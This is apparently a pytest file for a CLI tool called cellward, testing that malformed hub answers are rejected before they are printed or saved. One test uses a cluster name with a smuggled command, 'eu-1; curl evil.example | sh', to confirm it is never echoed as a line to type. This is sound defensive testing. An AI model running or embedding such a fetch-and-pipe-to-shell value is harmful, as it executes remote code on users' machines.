"""Answers of the right shape whose values are none: refused before a command prints, keeps or computes with them."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from cellward.identity import keys
from cli.main import app
from tests.fakes.answering_hub import answering_hub, plain_trust
from tests.fakes.live_api import hub_keys
from tests.fakes.shaped_answers import shaped_answer

_SUBJECT = "0" * 64


def asked(home: Path, replaced: dict[str, Any], *words: str) -> tuple[Result, list[tuple[str, str]]]:
    """Run a command against a hub whose answers have other values in some fields."""

    def answer(method: str, path: str) -> tuple[int, bytes]:
        found = shaped_answer(method, path, "text") or {}
        return 200, json.dumps(_replaced(found, replaced)).encode()

    with answering_hub(answer) as hub:
        hub.log_in(home)
        result = CliRunner().invoke(app, [*words, "--home", str(home)], env={"NO_COLOR": "1"})
        return result, hub.asked


def _replaced(value: Any, by: dict[str, Any]) -> Any:
    if isinstance(value, list):
        return [_replaced(item, by) for item in value]
    if not isinstance(value, dict):
        return value
    return {name: by[name] if name in by else _replaced(item, by) for name, item in value.items()}


def test_no_line_to_type_has_a_hubs_words(tmp_path: Path) -> None:
    """After ``unlock --rekey`` a command is printed for each cluster; its name is the hub's."""
    evil = "eu-1; curl evil.example | sh"
    lock = {"kind": "key", "subject": _SUBJECT, "clusters": [evil], "realm": ""}
    result, requests = asked(tmp_path, lock, "unlock", f"key/{_SUBJECT}", "--rekey")
    assert "[cli/bad-answer]" in result.stderr
    assert f"invite {evil}" not in result.stderr + result.stdout
    assert [method for method, _ in requests if method != "GET"] == []


@pytest.mark.parametrize("moment", ["2026-01-02T03:04:05", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-23:00"])
def test_v16_a_time_that_is_none_is_no_mistake_of_ours(tmp_path: Path, moment: str) -> None:
    """V16: without a zone it cannot be compared, at the ends of the calendar nothing can be taken from it."""
    plain_trust(tmp_path)
    times = {"certificateExpires": moment, "snapshotExpires": moment, "lastSeen": moment, "connected": True}
    result, _ = asked(tmp_path, {**times, "joined": True, "nextCursor": ""}, "check")
    assert "cli/internal" not in result.stderr + result.stdout
    assert result.exit_code in {1, 4}
    assert "clusters" in result.stdout


@pytest.mark.parametrize("size", [5, 8 * 1024**2])
def test_init_keeps_no_audit_key_that_is_none(tmp_path: Path, size: int) -> None:
    """It would stand in trust.yaml: useless to an auditor, or too large for any later command to read."""
    timestamp = base64.b64encode(keys.spki_of(hub_keys().tree_head)).decode()
    trust = {"realm": "", "timestampSpki": timestamp, "treeHeadSpki": base64.b64encode(b"x" * size).decode()}
    result, requests = asked(tmp_path, trust, "init", "--no-passphrase", "--owner", "ada")
    assert "[cli/bad-answer]" in result.stderr
    assert not (tmp_path / "trust.yaml").exists()
    assert list((tmp_path / "keys").iterdir()) == []
    assert ("POST", "/v1/trust/root") not in requests
